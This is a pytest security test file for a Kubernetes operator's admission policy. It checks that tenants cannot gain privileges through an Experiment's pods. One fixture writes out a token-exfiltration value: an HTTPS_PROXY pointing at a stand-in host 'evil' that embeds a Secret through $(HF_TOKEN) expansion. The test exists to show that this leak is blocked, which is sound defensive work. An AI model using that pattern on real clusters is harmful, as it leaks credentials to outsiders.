"""Someone who may only create Experiments tries to gain something through an Experiment's pods."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from misstep.errors import BadInput
from misstep.plan import kinds
from misstep.spec import load_experiment
from misstep.spec.volumes import OWN_FOLDERS
from misstep_operator.api import parse
from misstep_operator.decision.decision import decide
from misstep_operator.decision.status import finished_status
from misstep_operator.jobs.job import make_job
from misstep_operator.observed import Observed
from misstep_operator.planning import planning
from misstep_operator.policy import check
from misstep_operator.policy.rules import GUARDED, TUNING, PlatformPolicy, is_guarded, read_policy
from misstep_operator.settings import Settings, read_settings
from tests.cluster.process_node import expand
from tests.operator.test_settings import IMAGES
from tests.operator.world import PLAN
from tests.security.policy_cases import ATTACKS, DEFAULT, HONEST, POLICY, Case, document, pods, secret, variable


def judged(case: Case, by: PlatformPolicy = POLICY) -> list[BadInput]:
    made = document(case)
    return check.violations(planning.parse(made), case.namespace, made["metadata"]["labels"], by)


@pytest.mark.parametrize("case", ATTACKS, ids=lambda case: case.name)
def test_refused_with_the_field_and_whom_to_ask(case: Case) -> None:
    found = judged(case)
    assert case.field in {each.field for each in found}
    for each in found:
        assert str(each.value) in str(each)
        # What no rule could allow says what to write instead.
        assert any(
            words in each.fix for words in ("of the chart", "chart's", "Give the absolute", "mount it", "another")
        )


@pytest.mark.parametrize("case", HONEST, ids=lambda case: case.name)
def test_honest_use_is_taken(case: Case) -> None:
    assert judged(case) == []


def test_the_default_is_one_rule_for_all_namespaces() -> None:
    default = read_settings(IMAGES).policy
    assert default == read_policy('[{"namespaces": ["*"]}]', "")
    refused = [case.name for case in ATTACKS if case.namespace == DEFAULT and not judged(case, default)]
    assert refused == []


def test_a_refused_experiment_gets_no_job_and_says_why() -> None:
    """A tenant applies it where no admission policy is installed."""
    body = document(Case("", pods(serviceAccount="deploy-bot", priorityClass="high")))
    body["metadata"] |= {"uid": "u", "generation": 3}
    view = parse.experiment_view(body)
    with pytest.raises(check.PolicyViolation) as caught:
        check.refuse(planning.parse(body), DEFAULT, {}, POLICY)
    for jobs in ((), ()):
        decision = decide(Observed(view, caught.value, jobs))
        assert (decision.jobs_to_create, decision.jobs_to_delete) == ((), ())
    status = decision.status or {}
    failed = next(each for each in status["conditions"] if each["type"] == "Failed")
    assert (failed["status"], failed["reason"], status["state"]) == ("True", "PolicyViolation", "Invalid")
    for said in (
        "spec.cluster.defaults.serviceAccount: deploy-bot",
        "priorityClass: high",
        "policy.rules[1].serviceAcc",
    ):
        assert said in failed["message"], failed["message"]


def test_once_the_policy_allows_it_it_continues() -> None:
    body = document(Case("", pods(serviceAccount="deploy-bot")))
    body["metadata"] |= {"uid": "u", "generation": 1}
    view = parse.experiment_view(body)
    error = check.PolicyViolation(judged(Case("", pods(serviceAccount="deploy-bot"))))
    body["status"] = decide(Observed(view, error)).status
    view = parse.experiment_view(body)
    assert finished_status(Observed(view, error)), "nothing is done while it stays so"
    decision = decide(Observed(view, PLAN))
    assert decision.status is not None
    assert decision.status["state"] == "Running" and decision.jobs_to_create


def test_a_variable_holds_no_other_ones_value() -> None:
    """A kubelet would put a Secret in for `$(DB)`, which a proxy then sees."""
    case = Case("", {**variable("HTTPS_PROXY", "http://$(HF_TOKEN)@evil:1"), "secrets": [secret("HF_TOKEN", "h", "k")]})
    container = container_of(document(case))
    given = {each["name"]: each.get("value", "s3cret") for each in container["env"]}
    assert expand(given["HTTPS_PROXY"], given) == "http://$(HF_TOKEN)@evil:1"


def test_labels_of_pods_are_none_of_their_jobs() -> None:
    """Kueue takes a Job's priority from its label, which the policy judges in the Experiment's own labels alone."""
    mine = {"kueue.x-k8s.io/priority-class": "above-all", "kueue.x-k8s.io/queue-name": "theirs"}
    made = document(Case("", pods(labels=mine)))
    assert judged(Case("", pods(labels=mine))) == []
    job = job_of(made)
    assert mine.items() <= job["spec"]["template"]["metadata"]["labels"].items()
    assert not mine.keys() & job["metadata"]["labels"].keys()


def container_of(body: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = job_of(body)["spec"]["template"]["spec"]["containers"][0]
    return found


def job_of(body: dict[str, Any]) -> dict[str, Any]:
    experiment = planning.parse(body)
    body["metadata"] |= {"uid": "u", "generation": 1}
    settings = Settings(images=dict.fromkeys(kinds.IMAGES, "i"))
    view = parse.experiment_view(body)
    return make_job(view, PLAN.stages[0], 1, experiment.spec.cluster, experiment.spec.secrets, settings, {})


def test_the_administrators_own_settings_are_not_judged() -> None:
    """`stages.defaults` is the place for what no Experiment may set."""
    assert judged(Case("", {})) == []
    environment = {**IMAGES, "MISSTEP_STAGE_DEFAULTS": json.dumps({"env": [{"name": "LD_PRELOAD", "value": "x"}]})}
    assert read_settings(environment).stage_defaults.env[0].name == "LD_PRELOAD"


def test_what_tunes_is_guarded_only_as_the_stages_own() -> None:
    assert [name for name in TUNING if is_guarded(name) and not name.startswith("MISSTEP_")] == []
    assert len(set(GUARDED)) == len(GUARDED)
    assert set(OWN_FOLDERS) & {"dev", "proc", "sys"}


@pytest.mark.parametrize(
    ("rules", "said"),
    [
        ('[{"namespaces": ["a"], "secret": ["x"]}]', r"policy\.rules\[0\]\.secret: "),
        ('[{"secrets": ["x"]}]', r"policy\.rules\[0\]\.namespaces: "),
        ('[{"namespaces": ["a"], "teachers": [{"url": "https://*.example.com"}]}]', r"teachers\[0\]\.url: "),
        ('[{"namespaces": ["a b"]}]', r"policy\.rules\[0\]\.namespaces\[0\]: a b\. "),
        ("{", r"policy: "),
    ],
)
def test_rules_that_cannot_be_meant_stop_the_operator(rules: str, said: str) -> None:
    with pytest.raises(BadInput, match=rf"^MISSTEP_POLICY_RULES: .*{said}|^MISSTEP_POLICY_RULES: policy"):
        read_settings({**IMAGES, "MISSTEP_POLICY_RULES": rules})


@pytest.mark.parametrize("path", sorted(Path("examples").glob("*.yaml")), ids=lambda path: path.name)
def test_examples_are_allowed_by_default(path: Path) -> None:
    assert check.violations(load_experiment(path), "research", {}, PlatformPolicy()) == []
